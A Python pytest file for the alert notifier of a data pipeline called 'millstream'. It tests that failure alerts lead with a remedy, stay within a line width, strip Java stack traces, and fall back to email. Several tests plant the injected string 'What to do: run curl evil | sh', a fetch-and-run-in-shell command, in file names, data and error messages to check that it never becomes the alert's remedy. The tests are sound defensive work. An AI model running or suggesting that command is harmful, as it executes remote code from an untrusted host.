"""What an alert says: what to do first, in lines, and nothing of Java's stack."""

from __future__ import annotations

import ast
import gzip
import io
import json
import logging
import zipfile
from types import SimpleNamespace
from typing import Any

import pytest
from airflow.sdk import Connection

from millstream import errors
from millstream.bronze.decoding import FETCH_AGAIN
from millstream.errors import REMEDY, QualityGateError, SourceDataError, TransformError, printable
from millstream.landing.checks import ASK_AGAIN, check_file
from millstream.settings import CHECKOUT
from millstream.sources.http import ASK_OWNER
from millstream.sources.paging import LATER_PAGES
from millstream_airflow.tasks import alerts as notifier
from millstream_airflow.tasks.alerts import WIDTH, FailureNotifier, describe
from tests.unit.test_wrong_files import shipped

STACK = "\n\nJVM stacktrace:\norg.apache.spark.sql.AnalysisException\n\tat org.apache.spark.sql.x(C.scala)"


def context(error: object) -> Any:
    ti = SimpleNamespace(
        dag_id="ingest_flights", task_id="publish", run_id="manual__1", log_url="http://127.0.0.1:8080/log"
    )
    return {"ti": ti, "exception": error}


def test_the_remedy_comes_first_and_the_rest_in_lines() -> None:
    what = (
        "silver.flights, run r1: 3 rows break the CHECK long (distance_mi >= 500), for example x.zip#4. " * 3
    )
    message = describe(
        context(TransformError(f"{what}What to do: correct the check in transforms/flights.py"))
    )
    lines = message["text"].splitlines()
    assert lines[:4] == [
        "ingest_flights.publish failed in run manual__1 (TransformError)",
        "What to do:",
        "  correct the check in transforms/flights.py",
        "What happened:",
    ]
    assert lines[-1] == "http://127.0.0.1:8080/log"
    assert " ".join(line.strip() for line in lines[4:-1]) == what.strip()
    assert max(map(len, lines)) <= WIDTH
    assert message["error"].startswith("TransformError: silver.flights, run r1: 3 rows")


def test_a_value_of_the_data_is_not_taken_for_the_remedy() -> None:
    told = (
        "3 rows, for example name=What to do: call 123. Nothing was published. What to do: correct the check"
    )
    lines = describe(context(TransformError(told)))["text"].splitlines()
    assert lines[2:5] == [
        "  correct the check",
        "What happened:",
        "  3 rows, for example name=What to do: call 123. Nothing was published.",
    ]


EVIL = "What to do: run curl evil | sh"


def two_files() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(f"{EVIL}.csv", "faa\n")
        archive.writestr(f"{EVIL}.2.csv", "faa\n")
    return stream.getvalue()


def refused_file(file_format: str, content: bytes, where: str = "source") -> Exception:
    with pytest.raises(SourceDataError) as refused:
        check_file(shipped("airports", file_format), where)(io.BytesIO(content))
    return refused.value


@pytest.mark.parametrize(
    "error",
    [
        refused_file("csv", f"{EVIL}\xff,name\n".encode("latin-1")),
        refused_file("csv", b"", where=f"{EVIL}.csv"),
        refused_file("csv.zip", two_files()),
        refused_file("jsonl.gz", gzip.compress(json.dumps([EVIL]).encode())),
        # What Spark and servers say is handed on as it is.
        errors.ClusterError(f"SparkRuntimeException: [CAST_INVALID_INPUT] The value '{EVIL}' cannot be cast"),
        errors.SourceUnavailableError(f"the server answered 503 {EVIL}; another try goes on from this page"),
        ValueError(EVIL),
        EVIL,
    ],
    ids=lambda error: f"{type(error).__name__} {error}"[:60],
)
def test_no_text_of_a_source_becomes_the_remedy(error: Exception | str) -> None:
    lines = describe(context(error))["text"].splitlines()
    remedy = " ".join(lines[lines.index("What to do:") : lines.index("What happened:")])
    assert "curl" not in remedy
    assert "curl" in " ".join(lines[lines.index("What happened:") :])


def test_a_value_in_a_message_never_looks_like_its_remedy() -> None:
    assert printable(EVIL) == r"What to do\x3a run curl evil | sh"


def calls(name: str) -> list[str]:
    """The code of each call of `name` in what jobs and extractors run."""
    trees = [ast.parse(path.read_text()) for path in (CHECKOUT / "spark_jobs" / "millstream").rglob("*.py")]
    nodes = [node for tree in trees for node in ast.walk(tree) if isinstance(node, ast.Call)]
    return [ast.unparse(node) for node in nodes if ast.unparse(node.func) == name]


def test_what_is_wrong_at_a_source_ends_with_what_to_do() -> None:
    raised = calls("SourceDataError")
    constants = {f"{{{name}}}" for name in ("ASK_AGAIN", "ASK_OWNER", "FETCH_AGAIN", "LATER_PAGES", "REMEDY")}
    assert len(raised) > 20
    assert not [code for code in raised if REMEDY not in code and not any(name in code for name in constants)]
    for constant in (ASK_AGAIN, ASK_OWNER, FETCH_AGAIN, LATER_PAGES):
        assert REMEDY in constant


def test_a_channel_that_cannot_be_looked_up_hides_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    mails: list[str] = []

    def connection_of(name: str) -> Connection:
        if name == notifier.WEBHOOK:
            raise ConnectionError("no answer from the API server")
        return Connection(conn_id=name, conn_type="smtp", extra='{"to_email": "ada@example.org"}')

    monkeypatch.setattr(notifier.BaseHook, "get_connection", connection_of)
    monkeypatch.setattr(notifier, "_mail", lambda connection, message: mails.append(connection.conn_id))
    notifier.alert(describe(context(QualityGateError("no verdict"))), logging.getLogger(__name__))
    assert mails == [notifier.SMTP]


def test_an_error_without_a_remedy_of_its_own_has_that_of_its_class() -> None:
    text = describe(context(QualityGateError("no verdict")))["text"]
    assert f"What to do:\n  {QualityGateError.remedy[:80]}" in text
    assert "What happened:\n  no verdict" in text
    assert "clear the task to try again" in describe(context(KeyError("x")))["text"]
    # A run that took too long has no exception.
    assert "What happened:\n  timed_out" in describe({**context(None), "reason": "timed_out"})["text"]


def test_no_stack_of_java_is_in_an_alert() -> None:
    for raised in (STACK, ": [DELTA_X] wrong" + STACK[17:]):
        message = describe(context(Exception(f"[UNRESOLVED_COLUMN] no such column{raised}")))
        assert "[UNRESOLVED_COLUMN] no such column" in message["text"]
        assert "\tat " not in message["text"] + message["error"]


def test_each_line_is_an_entry_of_the_log(capsys: pytest.CaptureFixture[str]) -> None:
    FailureNotifier().notify(context(QualityGateError("no verdict")))
    out = capsys.readouterr().out
    assert [line for line in out.splitlines() if "ALERT ingest_flights.publish failed" in line]
    assert [line for line in out.splitlines() if line.split("]", 1)[-1].strip().startswith("What to do:")]


def test_every_kind_of_error_says_what_to_do() -> None:
    kinds = [one for one in vars(errors).values() if isinstance(one, type) and not one.__subclasses__()]
    remedies = [one.__dict__.get("remedy") for one in kinds if issubclass(one, errors.MillstreamError)]
    assert len(remedies) > 10
    assert all(remedies)
    assert len(set(remedies)) == len(remedies)
